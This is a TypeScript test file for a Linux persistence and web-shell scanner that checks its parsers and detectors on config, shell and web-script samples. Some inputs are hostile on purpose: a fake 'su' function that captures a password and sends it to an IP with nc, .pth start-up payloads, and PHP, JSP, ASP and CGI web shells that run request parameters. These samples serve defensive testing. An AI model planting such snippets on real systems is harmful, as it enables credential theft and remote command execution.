/**
 * The parsers of the event-hook, shell-and-tools, binaries, web-shell, scheduled and container families, on
 * the syntax they must understand and on malformed input (which must neither throw nor hide what follows).
 */
import assert from "node:assert/strict";
import { parseLogrotate } from "../../src/scanners/persistence/sources/logrotate_parse.ts";
import { fullName, parseGitConfig } from "../../src/scanners/persistence/sources/gitconfig_parse.ts";
import { commandOf } from "../../src/scanners/persistence/sources/git.ts";
import { parsePth, startupPrimitives } from "../../src/scanners/persistence/sources/python_parse.ts";
import {
  matchesHead,
  nativeHeads,
  parseBinfmtFile,
  parseLiveEntry,
  parseRegistration,
  unescapeBinfmt,
} from "../../src/scanners/persistence/sources/binfmt_parse.ts";
import { parseShellDefinitions } from "../../src/scanners/persistence/sources/shell_defs_parse.ts";
import { lexShell, simpleCommandsOf } from "../../src/scanners/persistence/sources/shell_lex.ts";
import { judgeDefinition } from "../../src/scanners/persistence/sources/shell_defs.ts";
import {
  apacheRoots,
  nginxRoots,
  webHits,
  type WebKind,
  webKind,
} from "../../src/scanners/persistence/sources/web_parse.ts";
import { parseInterfaces } from "../../src/scanners/persistence/sources/interfaces_parse.ts";
import { parseAtJob } from "../../src/scanners/persistence/cron.ts";
import { parseStatoverride } from "../../src/scanners/persistence/sources/binaries.ts";
import { parseBind } from "../../src/scanners/containers/runtime_configs.ts";
import { hostAccess } from "../../src/scanners/persistence/sources/containers.ts";

const JUNK = "\u0000\u00ff\ufffd\u001b[31m{{{}}}\"'`$(\\\n";

Deno.test("logrotate: blocks with several patterns, scripts, includes; bad structure is counted", () => {
  const c = parseLogrotate([
    "# global",
    "weekly",
    "include /etc/logrotate.d",
    '"/var/log/a b.log" /var/log/c.log {',
    "  postrotate",
    "    kill -HUP $(cat /run/a.pid)",
    "    # a comment inside the script is the script's",
    "  endscript",
    "}",
    "/var/log/d.log",
    "/var/log/e.log",
    "{",
    "  firstaction",
    "    /usr/bin/true",
    "  endscript extra",
    "  include /etc/x",
    "}",
    "}",
    "/var/log/f.log { }",
  ].join("\r\n"));
  assert.deepEqual(c.includes, [{ line: 3, path: "/etc/logrotate.d" }]);
  assert.deepEqual(c.scripts.map((s) => [s.hook, s.line, s.patterns, s.body.map((b) => b.line)]), [
    ["postrotate", 5, ["/var/log/a b.log", "/var/log/c.log"], [6, 7]],
    ["firstaction", 13, ["/var/log/d.log", "/var/log/e.log"], [14]],
  ]);
  assert.equal(c.bad, 2, "the include inside a block and the stray brace");
  assert.equal(c.unterminated, false);
});

Deno.test("logrotate: a script without endscript runs to the end; junk neither throws nor hides scripts", () => {
  const c = parseLogrotate(`${JUNK}\n/x {\n prerotate\n  /tmp/a\n}\n`);
  assert.equal(c.unterminated, true);
  assert.deepEqual(c.scripts[0].body.map((b) => b.text.trim()), ["/tmp/a", "}"]);
  for (const t of ["{", "}", "include", "postrotate", "endscript", JUNK.repeat(50)]) parseLogrotate(t);
});

Deno.test("gitconfig: sections, subsections, legacy names, quoting, escapes, comments, continuations", () => {
  const g = parseGitConfig([
    "\uFEFF[Core]",
    '\tPager = "less -R" ; comment',
    "\teditor = vim # comment",
    '[remote "Origin"]',
    '\turl = "a\\"b\\\\c"',
    "[branch.Main] merge = refs/heads/main",
    "[alias]",
    "\tst",
    "\tlg = log \\",
    "\t  --oneline",
    '[filter "lfs"]',
    "\tsmudge = git-lfs smudge -- %f",
  ].join("\n"));
  assert.equal(g.bad, 0);
  assert.deepEqual(g.entries.map((e) => [fullName(e), e.value, e.line]), [
    ["core.pager", "less -R", 2],
    ["core.editor", "vim", 3],
    ["remote.Origin.url", 'a"b\\c', 5],
    ["branch.main.merge", "refs/heads/main", 6],
    ["alias.st", "true", 8],
    ["alias.lg", "log    --oneline", 9],
    ["filter.lfs.smudge", "git-lfs smudge -- %f", 12],
  ]);
  assert.deepEqual(g.entries.map(commandOf), [
    "less -R",
    "vim",
    undefined,
    undefined,
    undefined,
    undefined,
    "git-lfs smudge -- %f",
  ]);
});

Deno.test("gitconfig: which values run commands (booleans, credential helpers, ! aliases)", () => {
  const g = parseGitConfig(
    "[core]\nfsmonitor = true\nfsmonitor = /opt/hook\n[pager]\nlog = false\ndiff = delta\n" +
      '[credential]\nhelper = store\nhelper = /usr/lib/git-core/git-credential-libsecret\nhelper = "!f() { cat ~/.t; }; f"\n' +
      "[alias]\nco = checkout\nx = !sh -c 'id'\n",
  );
  assert.deepEqual(g.entries.map(commandOf), [
    undefined,
    "/opt/hook",
    undefined,
    "delta",
    undefined,
    "/usr/lib/git-core/git-credential-libsecret",
    "f() { cat ~/.t; }; f",
    undefined,
    "sh -c 'id'",
  ]);
});

Deno.test("gitconfig: malformed headers, keys outside sections and junk are counted, the rest is read", () => {
  const g = parseGitConfig(
    `orphan = 1\n[bad\n[ok]\n  key = v\n9key = x\n${JUNK}\n[x "unterminated]\nk = v\n`,
  );
  assert.deepEqual(g.entries.map((e) => `${fullName(e)}=${e.value}`), ["ok.key=v"]);
  assert.ok(g.bad >= 4);
  for (const t of ['[a "', "a = \\", '[a]\nb = "', JUNK.repeat(100)]) parseGitConfig(t);
});

Deno.test(".pth: only lines starting with `import ` or `import<TAB>` run; the rest are paths", () => {
  const p = parsePth("# comment\n/opt/lib\nimport os\r\nimport\tsys\nimportlib\n  import os\n\n" + JUNK);
  assert.deepEqual(p.imports.map((l) => [l.line, l.code]), [[3, "import os"], [4, "import\tsys"]]);
  assert.equal(p.paths, 4);
});

Deno.test(".pth: stock setuptools and namespace-package lines use no start-up primitive; payloads do", () => {
  const stock = [
    "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; " +
    "enabled and __import__('_distutils_hack').add_shim(); ",
    "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], " +
    "*('google',));importlib = has_mfs and __import__('importlib.util');has_mfs and __import__('importlib.machinery');" +
    "m = has_mfs and sys.modules.setdefault('google', importlib.util.module_from_spec(" +
    "importlib.machinery.PathFinder.find_spec('google', [os.path.dirname(p)])));",
    "import _virtualenv",
    "import __editable___pkg_finder; __editable___pkg_finder.install()",
  ];
  for (const s of stock) assert.deepEqual(startupPrimitives(s), [], s);
  assert.deepEqual(startupPrimitives("import os;os.system('id')"), ["runs_command"]);
  assert.deepEqual(startupPrimitives("import zlib;exec(zlib.decompress(b'x'))"), [
    "runs_code",
    "decodes_data",
  ]);
  assert.deepEqual(startupPrimitives("import socket;s=socket.socket()"), ["network"]);
  assert.deepEqual(startupPrimitives("m=__import__(chr(111)+'s')"), ["dynamic_import"]);
});

Deno.test("binfmt: registrations with any separator, escapes, masks; bad ones are rejected", () => {
  const r = parseRegistration(":qemu-arm:M:0:\\x7fELF\\x01:\\xff\\xff\\xff\\xff\\xff:/usr/bin/qemu-arm:OCF")!;
  assert.deepEqual([r.name, r.type, r.offset, [...r.magic], [...r.mask!], r.interpreter, r.flags], [
    "qemu-arm",
    "M",
    0,
    [0x7f, 0x45, 0x4c, 0x46, 1],
    [255, 255, 255, 255, 255],
    "/usr/bin/qemu-arm",
    "OCF",
  ]);
  assert.deepEqual(
    parseRegistration(",DOSWin,E,,exe,,/usr/bin/wine,")?.magic,
    new TextEncoder().encode("exe"),
  );
  assert.deepEqual([...unescapeBinfmt("a\\\\\\x4g\\x41")], [0x61, 0x5c, 0x5c, 0x78, 0x34, 0x67, 0x41]);
  for (
    const bad of [":", "::M::", ":a:X::m::/i:", ":a/b:M::m::/i:", ":a:M:x::m:/i:", ":a:M::::/i:", ":a:M::m::"]
  ) {
    assert.equal(parseRegistration(bad), undefined, bad);
  }
  const f = parseBinfmtFile("; comment\n# comment\n\n:a:E::x::/bin/x:\nnonsense\n" + JUNK);
  assert.deepEqual([f.registrations.length, f.bad], [1, 2]);
});

Deno.test("binfmt: live entries; magic with masks matched against this system's heads", () => {
  const live = parseLiveEntry(
    "qemu-aarch64",
    "enabled\ninterpreter /usr/libexec/qemu-binfmt/aarch64-binfmt-P\nflags: POCF\noffset 0\n" +
      "magic 7f454c460201010000000000000000000200b700\nmask ffffffffffffff00fffffffffffffffffeffffff\n",
  )!;
  assert.deepEqual([live.type, live.enabled, live.flags, live.magic.length], ["M", true, "POCF", 20]);
  assert.equal(parseLiveEntry("x", "disabled\ninterpreter /x\nextension .zip\n")?.enabled, false);
  assert.equal(parseLiveEntry("x", "enabled\n"), undefined);
  assert.equal(parseLiveEntry("x", "enabled\ninterpreter /x\nmagic zz\n"), undefined);
  const x86 = new Uint8Array([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 3, 0, 0x3e, 0]);
  const heads = nativeHeads(x86);
  assert.equal(heads.length, 6, "two #! samples, four ELF samples");
  assert.ok(
    !heads.some((h) => matchesHead(live, h.head)),
    "an aarch64 registration leaves x86-64 programs alone",
  );
  const all = parseRegistration(":all:M::\\x7fELF::/x:")!;
  assert.ok(heads.some((h) => h.what.includes("ELF") && matchesHead(all, h.head)));
  const masked = parseRegistration(
    ":m:M::\\x7fELF\\x02\\x01\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x02\\x00\\x3e:" +
      "\\xff\\xff\\xff\\xff\\xff\\xff\\xff\\x00\\xff\\xff\\xff\\xff\\xff\\xff\\xff\\xff\\xfe\\xff\\xff:/x:",
  )!;
  assert.ok(heads.some((h) => matchesHead(masked, h.head)), "x86-64 executables and PIEs match");
  assert.deepEqual(nativeHeads(new Uint8Array([1, 2, 3])).length, 2, "no ELF: scripts only");
});

Deno.test("shell lexer: quotes, expansions, redirections and here-documents", () => {
  const t = lexShell(
    "echo \"a $(printf ')' ) b\" 'c;d' $'e\\nf' x\\ y >>/tmp/o 2>&1 | tee -a /l &>/dev/null\ncat <<-'E'\n\tls; rm -rf /\n\tE\nz",
  );
  assert.deepEqual(t.filter((x) => x.type === "word").map((x) => x.text), [
    "echo",
    "a $(printf ')' ) b",
    "c;d",
    "e\nf",
    "x y",
    "/tmp/o",
    "1",
    "tee",
    "-a",
    "/l",
    "/dev/null",
    "cat",
    "E",
    "z",
  ]);
  const cmds = simpleCommandsOf(t);
  assert.deepEqual(
    cmds.map((c) => [c.words.map((w) => w.text).join(" "), c.piped, c.redirects.map((r) => r.target)]),
    [
      ["echo a $(printf ')' ) b c;d e\nf x y", false, ["/tmp/o", "1"]],
      ["tee -a /l", true, ["/dev/null"]],
      ["cat", false, []],
      ["z", false, []],
    ],
  );
  assert.equal(t.at(-1)!.line, 5, "lines are counted through the here-document");
});

Deno.test("shell definitions: every alias and function form, hooks, and malformed input", () => {
  const d = parseShellDefinitions([
    "alias -- ls='ls -F' ll='ls -l'",
    '\\alias sudo="sudo "',
    "builtin alias su=/tmp/su",
    "function ps() {",
    '  command ps "$@" | grep -v x  # }',
    "}",
    'function netstat { /bin/netstat "$@"; }',
    'w () ( /usr/bin/w "$@" )',
    'declare -x PROMPT_COMMAND="history -a"',
    "trap -p",
    "trap '' INT",
    "trap - EXIT",
    'trap "echo bye" EXIT HUP',
    "precmd_functions+=(log_it)",
    'log_it() { echo "$1"; }',
    "add-zsh-hook preexec log_it",
  ].join("\n"));
  assert.deepEqual(d.definitions.map((x) => `${x.kind} ${x.name}@${x.line}: ${x.body}`), [
    "alias ls@1: ls -F",
    "alias ll@1: ls -l",
    "alias sudo@2: sudo ",
    "alias su@3: /tmp/su",
    'function ps@4: command ps "$@" | grep -v x  # }',
    'function netstat@7: /bin/netstat "$@";',
    'function w@8: /usr/bin/w "$@"',
    'function log_it@15: echo "$1";',
  ]);
  assert.deepEqual(d.hooks.map((h) => `${h.kind} ${h.on}: ${h.command}`), [
    "prompt_command : history -a",
    "trap EXIT HUP: echo bye",
    'zsh_hook precmd: echo "$1";',
    'zsh_hook preexec: echo "$1";',
  ]);
  for (
    const t of ["alias", "function", "f() {", "f() { (", "trap", "'unterminated", "<<EOF", JUNK.repeat(200)]
  ) {
    parseShellDefinitions(t);
  }
  const unbalanced = parseShellDefinitions("echo 'oops\nalias sudo=/tmp/s\n");
  assert.deepEqual(unbalanced.definitions, [], "inside an unterminated quote nothing is a definition");
});

Deno.test("shell definitions: judging what a definition does", () => {
  const j = (kind: "alias" | "function", name: string, body: string) =>
    judgeDefinition({ kind, name, line: 1, body });
  assert.deepEqual(j("alias", "sudo", "sudo "), []);
  assert.deepEqual(j("alias", "sudo", "/usr/bin/sudo -E"), []);
  assert.deepEqual(j("alias", "sudo", "/home/x/sudo"), ["never runs the real sudo"]);
  assert.deepEqual(
    j("function", "su", 'stty -echo; read p; stty echo; echo "$p" | nc 203.0.113.5 1; command su "$@"'),
    [
      "sends data (nc)",
      "prompts without echo (stty -echo)",
    ],
  );
  assert.deepEqual(j("alias", "ls", "ls --color=auto | grep -v '.x'"), ["filters its output (grep -v .x)"]);
  assert.deepEqual(j("alias", "ls", "ls -la > /tmp/out"), [], "ls writing a file hides nothing");
  assert.deepEqual(j("alias", "ssh", "ssh -o ProxyCommand='nc %h %p'"), ["sends data (nc)"]);
});

Deno.test("web shells: each pattern fires; ordinary code and junk do not; big inputs stay fast", () => {
  const names = (t: string, kind: WebKind = "php") => webHits(t, kind).map((h) => h.name);
  assert.deepEqual(names("<?php echo shell_exec( $_GET [ 'x' ] );"), ["php_sink_request"]);
  assert.deepEqual(names("<?php echo `ls $_POST[d]`;"), ["php_backtick_request"]);
  assert.deepEqual(names("<?php $_COOKIE['a']($_COOKIE['b']);"), ["php_request_as_function"]);
  assert.deepEqual(names("<?php $c = trim($_REQUEST['c']);\n$out = passthru($c . ' 2>&1');"), [
    "php_sink_request_var",
  ]);
  assert.deepEqual(names("<?php @eval(str_rot13('riny'));"), ["eval_decoded"]);
  assert.deepEqual(names("<?php preg_replace('/.*/e', $_GET['x'], '');"), ["preg_replace_e"]);
  assert.deepEqual(names('<%= new ProcessBuilder(request.getParameter("c")).start() %>', "jsp"), [
    "jsp_exec_request",
  ]);
  assert.deepEqual(names('<%eval request("x")%>', "asp"), ["asp_eval_request"]);
  assert.deepEqual(names("use CGI; my $c = param('c'); print `$c`; system($c);", "cgi"), [
    "cgi_exec_request",
  ]);
  assert.deepEqual(names("AddHandler application/x-httpd-php .php .gif\n", "config"), ["image_as_code"]);
  assert.deepEqual(names("auto_prepend_file = /var/www/.x.php\n", "config"), ["auto_prepend"]);
  assert.deepEqual(names("<Files *.png>\n SetHandler application/x-httpd-php\n</Files>", "config"), [
    "set_handler",
  ]);
  for (
    const ok of [
      "<?php $id = (int) $_GET['id']; echo htmlspecialchars($id);",
      "<?php require_once( ABSPATH . 'wp-settings.php' ); exec('/usr/bin/convert a.png b.jpg');",
      "<?php if (isset($_POST['save'])) { update_option('x', sanitize_text_field($_POST['x'])); }",
      '<% String name = request.getParameter("n"); out.println(name); %>',
      "<?php\n/**\n * Reads `$_POST['customized']` when it is set.\n */\nfunction f() { return exec('ls'); }",
      "<?php $s = $_REQUEST['s']; printf( __( '%1$s by %2$s (x)' ), $s, $t );",
      "<?php $cb = $_GET['cb']; call_user_func( $callbacks[ $cb ] );",
      JUNK.repeat(1000),
    ]
  ) {
    for (const k of ["php", "jsp", "asp", "cgi", "config"] as const) {
      assert.deepEqual(names(ok, k), [], `${k}: ${ok.slice(0, 40)}`);
    }
  }
  assert.deepEqual(
    [
      "x.php",
      "x.PHTML",
      "x.inc",
      "a.jsp",
      "a.aspx",
      "a.pl",
      "run",
      ".htaccess",
      ".user.ini",
      "a.html",
      "a.js",
    ].map((n) => webKind(n, n === "run")),
    ["php", "php", "php", "jsp", "asp", "cgi", "cgi", "config", "config", undefined, undefined],
  );
  const big = "$_GET['a'] `x` eval( request.getParameter( Request[ param( ".repeat(20000);
  const t0 = performance.now();
  for (const k of ["php", "jsp", "asp", "cgi", "config"] as const) webHits(big, k);
  assert.ok(
    performance.now() - t0 < 3000,
    `${Math.round(performance.now() - t0)} ms on ${big.length} characters`,
  );
});

Deno.test("web roots from Apache and nginx configurations", () => {
  assert.deepEqual(
    apacheRoots(
      '  DocumentRoot "/srv/site one"\nAlias /pma /usr/share/phpmyadmin\n#DocumentRoot /x\nScriptAlias /cgi-bin/ /usr/lib/cgi-bin/\nDocumentRoot relative\n',
    ),
    ["/srv/site one", "/usr/share/phpmyadmin", "/usr/lib/cgi-bin/"],
  );
  // A long line of blanks was quadratic (40,000 of them took 2.5 s): now linear.
  const t0 = performance.now();
  assert.deepEqual(apacheRoots(`Alias /a${" ".repeat(400_000)}x${" ".repeat(400_000)}\r\n`), []);
  assert.deepEqual(apacheRoots(`DocumentRoot /srv/w${" ".repeat(400_000)}\r\n`), ["/srv/w"]);
  assert.ok(performance.now() - t0 < 1000, `${Math.round(performance.now() - t0)} ms`);
  assert.deepEqual(
    nginxRoots("server { root /var/www/a; location /b { alias '/srv/b/'; } # root /no;\n root $doc; }"),
    [
      "/var/www/a",
      "/srv/b/",
    ],
  );
});

Deno.test("interfaces, at jobs, dpkg-statoverride, docker binds, container host access", () => {
  const i = parseInterfaces(
    "source interfaces.d/*\nsource-directory /etc/net.d\niface eth0 inet static\n  up ip r add x \\\n     via y\nauto lo\n  post-down /x\n" +
      JUNK,
  );
  assert.deepEqual(i.includes.map((x) => [x.kind, x.pattern]), [["source", "interfaces.d/*"], [
    "source-directory",
    "/etc/net.d",
  ]]);
  assert.deepEqual(i.commands.map((x) => [x.line, x.iface, x.hook, x.command]), [[
    4,
    "eth0",
    "up",
    "ip r add x via y",
  ], [7, "", "post-down", "/x"]]);
  const at = parseAtJob(
    "#!/bin/sh\n# atrun uid=0 gid=0\nX=1; export X\ncd /root || {\n exit 1\n}\n/tmp/a\n/tmp/b\n",
  );
  assert.deepEqual([at.uid, at.commands.map((l) => l.text)], [0, ["/tmp/a", "/tmp/b"]]);
  assert.deepEqual(parseAtJob("echo hi\n").commands.map((l) => l.text), ["echo hi"]);
  assert.deepEqual(parseAtJob(JUNK).uid, undefined);
  assert.deepEqual([
    ...parseStatoverride("root root 4755 /usr/bin/x\nbad line\nroot crontab 2755 /usr/bin/crontab\n"),
  ], [
    ["/usr/bin/x", 0o4755],
    ["/usr/bin/crontab", 0o2755],
  ]);
  assert.deepEqual(parseBind("/:/host:ro,rslave"), { source: "/", destination: "/host", readOnly: true });
  assert.equal(parseBind("named:/data"), undefined);
  const base = {
    runtime: "docker" as const,
    id: "x",
    name: "x",
    image: "",
    command: "",
    restart: "always",
    privileged: false,
    hostNamespaces: [],
    capAdd: [],
    path: "/p",
  };
  assert.deepEqual(hostAccess({ ...base, mounts: [{ source: "//", destination: "/h", readOnly: true }] }), {
    reasons: ["mounts the host's root filesystem at /h (read-only)"],
    critical: false,
  });
  assert.deepEqual(
    hostAccess({ ...base, mounts: [{ source: "/etc/ssl", destination: "/s", readOnly: false }] }).reasons,
    [
      "mounts /etc/ssl writable",
    ],
  );
  assert.deepEqual(
    hostAccess({ ...base, mounts: [{ source: "/usr/share/x", destination: "/s", readOnly: false }] }).reasons,
    [],
  );
});
